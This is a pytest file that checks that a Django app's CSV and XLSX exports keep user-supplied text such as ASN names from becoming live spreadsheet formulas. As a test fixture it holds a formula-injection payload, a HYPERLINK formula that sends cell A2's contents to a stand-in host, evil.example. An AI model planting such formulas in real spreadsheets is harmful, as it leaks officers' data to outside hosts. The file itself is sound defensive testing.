"""Every export writes user text as text (issue 11.1): an anonymous report whose ASN name is a
formula must not become a live formula in the officer's spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from netral import exports
from netral.insights import exports as insights_exports
from netral.insights import tables
from tests.cases.helpers import open_oku_case, pemkab_oku

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A2,"Klik detail")'
STARTS = ["=1+1", "+62 811", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1"]


@pytest.mark.django_db
def test_a_formula_in_an_asn_name_stays_text_in_the_register_export(client_for: Any) -> None:
    open_oku_case(
        subjects=[
            {
                "name": PAYLOAD,
                "nip": "",
                "agency_name": "@Kecamatan",
                "position": "Camat",
                "ppk_institution": pemkab_oku(),
            }
        ]
    )
    answer = client_for("bawaslu_oku").get(reverse("cases:export"))
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells, "the ASN name is in the export, unchanged"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("text", STARTS)
def test_every_formula_start_is_neutralised_in_csv_and_xlsx(text: str) -> None:
    csv_body = exports.csv_bytes([[text, 5, None]]).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(csv_body))) == ["'" + text, "5", ""]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([("t", [[text, 5]])]))).active
    assert sheet is not None
    cell = sheet.cell(1, 1)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.strip() == text.strip()  # XML reads a carriage return as a line feed
    assert sheet.cell(1, 2).value == 5  # numbers stay numbers


def test_plain_text_is_left_alone() -> None:
    assert exports.csv_bytes([["Budi Santoso", "a-b"]]).decode("utf-8-sig") == (
        "Budi Santoso,a-b\r\n"
    )


def test_the_insights_exports_use_the_shared_writer() -> None:
    body = insights_exports.render([tables.Table("t", ["a"], [[PAYLOAD]])], "xlsx")
    cell = load_workbook(io.BytesIO(body)).worksheets[0].cell(2, 1)
    assert (cell.value, cell.data_type) == (PAYLOAD, "s")
